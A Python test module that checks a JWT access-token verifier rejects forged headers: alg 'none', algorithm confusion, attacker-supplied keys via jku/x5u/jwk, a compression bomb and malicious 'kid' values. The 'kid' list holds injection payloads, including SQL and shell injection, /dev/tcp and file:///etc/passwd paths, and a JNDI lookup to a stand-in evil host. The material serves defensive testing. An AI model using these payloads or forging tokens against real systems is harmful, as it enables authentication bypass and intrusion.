"""Headers that are not ours, sent to every door: section 2, attacks 1, 2, 4, 7–9, 12, 26, 27, 37.

Each token is wrong in one thing and, but for attack 1, its signature is right. What `reasons` asserts of all
of them at every door stands in tests/tokens_stateless/conftest.py: one answer, one event, no look-up, no
connection.
"""

from __future__ import annotations

import zlib
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec

from tests.tokens_stateless import doors, forge
from tests.tokens_stateless.conftest import Held, Reasons
from tests.tokens_stateless.forge import MISSING, part
from tokens_stateless import keys
from tokens_stateless.claims import ES256
from tokens_stateless.models import KeyState, SigningKey

EVIL = "https://evil.example"


def headed(held: Held, **changes: object) -> str:
    return forge.forge(forge.header(**changes), forge.payload(held.access))


def test_the_type_may_be_written_as_the_rfc_allows(held: Held) -> None:
    """RFC 9068 section 4, RFC 7515 section 4.1.9."""
    allowed = ["at+jwt", "AT+JWT", "application/at+jwt", "Application/AT+jwt"]

    statuses = {typ: doors.me(headed(held, typ=typ)).status_code for typ in allowed}

    assert statuses == dict.fromkeys(allowed, 200)


NONE: list[object] = ["none", "None", "NONE", "nOnE", "", "null", "0", None, 0, True, False]
NONE += [["ES256"], {"ES256": 1}, 1.0, MISSING]
OTHERS = ["HS256", "HS384", "HS512", "RS256", "PS256", "ES256K", "ES384", "ES512", "EdDSA", "Ed25519"]
OTHERS += ["es256", "ES256 ", "ES256\0"]


def test_another_algorithm_is_refused(held: Held, reasons: Reasons) -> None:
    """Attacks 1, 2, 4, 23, 25: even with our right signature (RFC 8725 section 3.1)."""
    found = reasons({repr(alg): headed(held, alg=alg) for alg in NONE + OTHERS})

    assert set(found.values()) == {"header"}, found


def test_no_algorithm_does_with_the_signature_of_a_good_token(held: Held, reasons: Reasons) -> None:
    """Attack 1"""
    _head, body, signature = held.access.split(".")

    found = reasons({repr(alg): f"{part(forge.header(alg=alg))}.{body}.{signature}" for alg in NONE})

    assert set(found.values()) == {"header"}, found


def test_no_algorithm_does_without_a_signature(held: Held, reasons: Reasons) -> None:
    """Attack 1"""
    unsigned = {
        repr(alg): headed(held, alg=alg).rpartition(".")[0] for alg in ("ES256", "none", "NONE", MISSING)
    }

    found = reasons(unsigned | {f"{alg}, empty": f"{text}." for alg, text in unsigned.items()})

    assert set(found.values()) == {"form"}, found


def test_another_type_of_token_is_refused(held: Held, reasons: Reasons) -> None:
    """Attack 12; RFC 8725 section 3.11: no other that we may sign one day passes for this one."""
    types: list[object] = ["JWT", "jwt", "at", "refresh+jwt", "logout+jwt", "dpop+jwt", "text/at+jwt", ""]
    types += [
        " at+jwt",
        "at+jwt ",
        "application/application/at+jwt",
        "application/",
        "/at+jwt",
        "at+JW\u03a4",
    ]
    types += [None, 1, True, 1.5, ["at+jwt"], {"at+jwt": 1}, MISSING]

    found = reasons({repr(typ): headed(held, typ=typ) for typ in types})

    assert set(found.values()) == {"header"}, found


FOREIGN: dict[str, dict[str, object]] = {
    "crit of nothing": {"crit": []},
    "crit of a claim": {"crit": ["exp"]},
    "crit that is no list": {"crit": "exp"},
    "unencoded": {"b64": False, "crit": ["b64"]},
    "unencoded, not critical": {"b64": False},
    "encoded, as always": {"b64": True},
    "packed": {"zip": "DEF"},
    "nested": {"cty": "JWT"},
    "key by address": {"jku": f"{EVIL}/jwks.json"},
    "certificate by address": {"x5u": f"{EVIL}/cert.pem"},
    "certificate": {"x5c": ["MIIB"]},
    "thumbprint of a certificate": {"x5t": "AAAA"},
    "longer thumbprint of a certificate": {"x5t#S256": "A" * 43},
    "key": {"jwk": {"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}},
    "of a JWE": {"enc": "A256GCM", "p2c": 10**9},
    "surprise": {"surprise": 1},
    "no kid": {"kid": MISSING},
}


def test_a_header_with_anything_besides_is_refused(held: Held, reasons: Reasons) -> None:
    """Attacks 7, 8, 26, 27: nothing in a header may choose how or by which key it is read (RFC 8725)."""
    found = reasons({name: headed(held, **changes) for name, changes in FOREIGN.items()})

    assert found == dict.fromkeys(FOREIGN, "header")


def test_a_key_that_the_token_brings_along_is_refused(held: Held, reasons: Reasons) -> None:
    """Attacks 7, 8: whoever signed with it."""
    private = ec.generate_private_key(ec.SECP256R1())
    jwk: dict[str, Any] = ES256.to_jwk(private.public_key(), as_dict=True)
    own = {"kid": forge.thumbprint(jwk)}
    brought: list[dict[str, object]] = [
        {"jwk": jwk},
        {"jku": f"{EVIL}/jwks.json"},
        {"x5u": f"{EVIL}/cert.pem"},
    ]
    headers = [forge.header(**more, **kid) for more in brought for kid in ({}, own)]

    found = reasons(
        {str(header): forge.forge(header, forge.payload(held.access), by=private) for header in headers}
    )

    assert set(found.values()) == {"header"}, found


def test_what_is_packed_is_not_unpacked(held: Held, reasons: Reasons) -> None:
    """Attack 27: two kilobytes that would be two megabytes."""
    packer = zlib.compressobj(wbits=-15)
    bomb = packer.compress(b" " * 2_000_000) + packer.flush()
    tokens = {
        "said": forge.forge(forge.header(zip="DEF"), bomb),
        "not said": forge.forge(forge.header(), bomb),
    }

    assert reasons(tokens) == {"said": "header", "not said": "json"}


def test_a_token_in_a_token_is_refused(held: Held, reasons: Reasons) -> None:
    """Attack 27"""
    tokens = {
        "said": forge.forge(forge.header(cty="JWT"), held.access.encode()),
        "not said": forge.forge(forge.header(), held.access.encode()),
    }

    assert reasons(tokens) == {"said": "header", "not said": "json"}


KIDS: list[object] = ["", "../../dev/null", "/dev/tcp/127.0.0.1/80", "/dev/stdin", "' OR 1=1--", "|sleep 5"]
KIDS += [
    "\0",
    "A" * 42,
    "A" * 43,
    "A" * 44,
    "A" * 2000,
    "é",
    "\u0430" * 43,
    "file:///etc/passwd",
    f"{EVIL}/key",
]
KIDS += ["%00", "*", "{{7*7}}", "${jndi:ldap://evil.example/a}", "\r\nX-Injected: 1", "client-" + "a" * 32]
KIDS += [None, 0, 1, -1, 1.5, True, False, [], [1], {}, {"kid": "A"}]


def test_a_key_that_is_not_in_the_ring_is_refused(held: Held, reasons: Reasons) -> None:
    """Attack 9"""
    found = reasons({repr(kid): headed(held, kid=kid) for kid in KIDS})

    assert set(found.values()) == {"kid"}, found


def test_the_id_of_our_key_has_one_spelling(held: Held, reasons: Reasons) -> None:
    """Attack 9"""
    kid = keys.signer()[0]
    others = [
        kid + "=",
        f" {kid}",
        f"{kid} ",
        f"{kid}\0",
        kid[:-1],
        kid.swapcase(),
        f"./{kid}",
        [kid],
        {kid: 1},
    ]

    found = reasons({repr(other): headed(held, kid=other) for other in others})

    assert set(found.values()) == {"kid"}, found


def test_a_key_that_was_revoked_is_refused_even_by_whoever_has_just_verified_with_it(
    held: Held, reasons: Reasons
) -> None:
    """Attack 9"""
    assert doors.me(held.access).status_code == 200
    SigningKey.objects.update(state=KeyState.REVOKED)
    keys.forget()

    assert reasons({"its token": held.access}) == {"its token": "kid"}


def test_a_token_names_the_very_key_that_signed_it(held: Held, reasons: Reasons) -> None:
    """Attacks 9, 37: a key in another state is another key."""
    ring: dict[str, tuple[str, Any]] = {"current": keys.signer()}
    ring |= {state: forge.key(state) for state in (KeyState.STANDBY, KeyState.PREVIOUS, KeyState.REVOKED)}
    tokens = {
        (named, signer): forge.forge(forge.header(kid=kid), forge.payload(held.access), by=private)
        for named, (kid, _private) in ring.items()
        for signer, (_kid, private) in ring.items()
        if named != signer or named == KeyState.REVOKED
    }

    found = reasons(tokens)

    assert found == {pair: "kid" if pair[0] == KeyState.REVOKED else "signature" for pair in tokens}


def test_a_new_key_brings_no_old_algorithm(held: Held, reasons: Reasons, settings: Any) -> None:
    """Attack 37: on either side of a change of keys."""
    old = keys.signer()
    settings.SECRET_KEY = "another secret of fifty characters, made up by this test"
    keys.forget()
    new = keys.signer()
    assert old[0] != new[0]

    tokens = {
        (kid == new[0], alg): forge.forge(
            forge.header(kid=kid, alg=alg), forge.payload(held.access), by=private
        )
        for kid, private in (old, new)
        for alg in ("HS256", "none", "ES384")
    }

    assert set(reasons(tokens).values()) == {"header"}
